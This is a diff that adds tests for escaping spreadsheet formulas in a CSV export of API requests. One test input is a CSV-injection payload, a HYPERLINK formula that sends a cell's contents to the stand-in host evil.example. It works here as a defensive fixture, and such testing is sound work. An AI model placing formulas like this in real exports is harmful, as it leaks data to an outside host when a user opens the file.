@@ -192,6 +192,22 @@ describe("GET /api/requests.csv", () => {
     expect(lines.slice(1).map((l) => l.split(",")[0])).toEqual([bad]);
   });
 
+  it("writes a model name a spreadsheet would run as a formula as text, with a leading apostrophe", async () => {
+    // Anyone holding the key names the model; a refused request keeps the name it gave.
+    const h = await holderWithKey();
+    await chat(h.key, '=HYPERLINK("https://evil.example/?"&A2,"open")');
+    const lines = (await (await h.b.call("GET", "/api/requests.csv")).text()).trimEnd().split("\r\n");
+    expect(lines[1]).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A2,""open"")",`);
+  });
+
+  it("writes a key name that starts with + - or @ as text too, and its figures as numbers", async () => {
+    const h = await holderWithKey({ name: "@SUM(1+1)" });
+    await chat(h.key);
+    const cells = (await (await h.b.call("GET", "/api/requests.csv")).text()).trimEnd().split("\r\n")[1]!.split(",");
+    expect(cells[4]).toBe("'@SUM(1+1)");
+    expect(cells[20]).toMatch(/^\d+\.\d+$/);
+  });
+
   it("refuses a request without a session", async () => {
     await refusedWith(await new Browser(gw.url).call("GET", "/api/requests.csv"), 401, "no-session");
   });
